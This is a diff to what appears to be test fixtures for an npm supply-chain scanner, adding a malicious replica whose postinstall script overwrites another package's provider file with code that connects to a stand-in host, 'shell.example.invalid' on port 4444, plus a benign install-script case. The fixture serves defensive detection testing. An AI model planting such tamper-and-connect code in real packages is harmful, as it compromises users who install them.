@@ -199,6 +199,18 @@ INCIDENTS: list[Replica] = [
         frozenset({"tamper-other-package"}),
         manifest={"scripts": {"install": "node index.js"}},
     ),
+    # The same patch done by the lifecycle script itself (shell cp over the other package's file).
+    Replica(
+        "shell-copies-over-other-package",
+        {
+            "patch/provider-jsonrpc.js": "module.exports = require('net').connect(4444, 'shell.example.invalid');\n"
+        },
+        "block",
+        frozenset({"tamper-other-package"}),
+        manifest={
+            "scripts": {"postinstall": "cp patch/provider-jsonrpc.js ../ethers/lib.commonjs/providers/"}
+        },
+    ),
     # pdf-to-office (ReversingLabs, April 2025): replaced the app.asar of locally installed Atomic and
     # Exodus wallets with a build that swaps the recipient address.
     Replica(
@@ -376,7 +388,9 @@ BENIGN: list[Replica] = [
         },
         "allow",
         frozenset({"install-script"}),
-        manifest={"scripts": {"postinstall": "node install.js"}},
+        manifest={
+            "scripts": {"postinstall": "node install.js && cp bin/tool lib/tool && mkdir -p ../.cache"}
+        },
     ),
     # A bundler's runtime global lookup and a template compiler: strings become code, harmlessly.
     Replica(
